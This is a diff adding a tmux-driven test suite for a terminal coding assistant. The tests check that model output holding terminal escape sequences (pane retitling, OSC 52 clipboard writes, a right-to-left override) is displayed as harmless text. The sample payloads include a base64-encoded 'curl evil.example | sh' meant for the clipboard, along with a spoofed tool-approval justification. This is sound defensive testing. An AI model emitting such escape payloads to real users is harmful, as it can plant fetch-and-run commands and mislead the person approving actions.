@@ -1,0 +1,97 @@
+/**
+ * security #42.6 in the terminal app, driven in a real terminal (tmux) against the fake model
+ * server: the model's escapes in an answer, a tool card or the approval box do not retitle the
+ * pane, do not fill the clipboard (tmux's `set-clipboard on` takes OSC 52 into a buffer), and a
+ * bidirectional override shows as `<U+202E>`. Every wait polls the screen with a deadline.
+ */
+import { mkdtempSync, writeFileSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { afterEach, beforeEach, describe, expect, it } from 'vitest'
+import { FakeDeepSeek, streamResponse } from '../../test-support/fake-deepseek.js'
+import { dshBin, tempHome } from '../../test-support/run-dsh.js'
+import { hasTmux, Terminal } from '../../test-support/tmux.js'
+
+const tmux = hasTmux()
+if (!tmux) console.warn('skipping terminal-text app tests: tmux is missing (apt-get install -y tmux)')
+
+let server: FakeDeepSeek
+const terminals: Terminal[] = []
+beforeEach(async () => { server = await FakeDeepSeek.start() })
+afterEach(async () => {
+  for (const terminal of terminals.splice(0)) terminal.close()
+  await server.close()
+})
+
+const usage = { prompt_tokens: 1200, completion_tokens: 40 }
+const patch = join(mkdtempSync(join(tmpdir(), 'dsh-tui-patch-')), 'no-title.yml')
+writeFileSync(patch, '- id: session-title\n  config:\n    llm: false\n')
+const DSH = `${process.execPath} ${dshBin} --patch ${patch}`
+
+/** A shell in a fresh terminal whose OSC 52 would fill a tmux buffer, and whose title is known. */
+async function openApp(home: string, cwd: string): Promise<Terminal> {
+  const terminal = Terminal.shell({ cwd, env: { DSH_HOME: home, DEEPSEEK_BASE_URL: server.url, DEEPSEEK_API_KEY: 'test-key', DSH_MODEL: undefined, NO_COLOR: undefined, TERM: 'xterm-256color' } })
+  terminals.push(terminal)
+  terminal.serverOption('set-clipboard', 'on')
+  await terminal.waitFor(/^\$$/m, { what: 'the shell prompt' })
+  terminal.type(`printf '\\033]2;before\\033\\\\'; clear; ${DSH}`)
+  terminal.keys('Enter')
+  await terminal.waitFor('Ask dsh to do something', { what: 'the input box', timeoutMs: 20_000 })
+  expect(terminal.paneTitle()).toBe('before')
+  expect(terminal.buffers()).toEqual([])
+  return terminal
+}
+
+async function send(terminal: Terminal, text: string): Promise<void> {
+  terminal.type(text)
+  await terminal.waitFor(screen => screen.replace(/[│\s]+/g, '').includes(text.replace(/\s+/g, '')), { what: `the typed text "${text}"` })
+  terminal.keys('Enter')
+}
+
+const CLIPBOARD = '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07'
+
+describe.skipIf(!tmux)('terminal app: the model\'s escapes stay on screen as text (security #42.6)', () => {
+  it('an answer holding OSC 0, OSC 52 and U+202E neither retitles the pane nor sets a buffer, and shows them', async () => {
+    const { home, cwd } = tempHome()
+    server.enqueue(streamResponse([
+      { reasoning: 'thinking \x1b]2;pwned-reasoning\x07' },
+      // The lone ESC ends one chunk, the rest of its OSC starts the next.
+      { text: 'Here it is.\x1b' },
+      { text: `]0;pwned-answer\x07 **bold** ${CLIPBOARD} report\u202Efdp.exe \`\x1b]2;pwned-code\x07\`` },
+      { finish: 'stop', usage },
+    ]))
+    const terminal = await openApp(home, cwd)
+    // Ctrl-O first: the step prints with its reasoning shown, drawn the same way.
+    terminal.keys('C-o')
+    await send(terminal, 'answer with escapes')
+    const history = await terminal.waitFor(/── 1 step · /, { what: 'the turn summary', history: true })
+    // The answer wraps at 80 columns: its rows read as one line.
+    expect(history.replace(/\n/g, ' ')).toContain('Here it is.␛]0;pwned-answer␇ bold ␛]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==␇ report<U+202E>fdp.exe ␛]2;pwned-code␇')
+    expect(terminal.paneTitle()).toBe('before')
+    expect(terminal.buffers()).toEqual([])
+    expect(history).toContain('thinking ␛]2;pwned-reasoning␇')
+  })
+
+  it('a tool card (command and output) and the approval box show escapes and overrides as text', async () => {
+    const { home, cwd } = tempHome()
+    const command = `printf 'o\\342\\200\\256p\\033]0;x\\007\\n' # \x1b]0;pwned-card\x07 \u202E`
+    server.enqueue(
+      streamResponse([{ toolCall: { id: 'b1', name: 'bash', arguments: JSON.stringify({ command, description: 'print', sandbox_permissions: 'danger-full-access', justification: `needs it\x1b]52;c;eA==\x07 \u202Etxt` }) } }, { finish: 'tool_calls', usage }]),
+      streamResponse([{ text: 'Ran it.' }, { finish: 'stop', usage }]),
+    )
+    const terminal = await openApp(home, cwd)
+    await send(terminal, 'run the printer')
+    const ask = await terminal.waitFor('Allow bash?', { what: 'the approval box' })
+    expect(ask).toContain('needs it␛]52;c;eA==␇ <U+202E>txt')
+    expect(ask).toContain('<U+202E>')
+    expect(terminal.paneTitle()).toBe('before')
+    expect(terminal.buffers()).toEqual([])
+    terminal.keys('y')
+    const history = await terminal.waitFor('Ran it.', { what: 'the answer after the tool', history: true })
+    expect(history).toContain('# ␛]0;pwned-card␇ <U+202E>')
+    // Command output is shown as a terminal leaves it: the title sequence dropped, the override named.
+    expect(history).toMatch(/^\s+o<U\+202E>p$/m)
+    expect(terminal.paneTitle()).toBe('before')
+    expect(terminal.buffers()).toEqual([])
+  })
+})
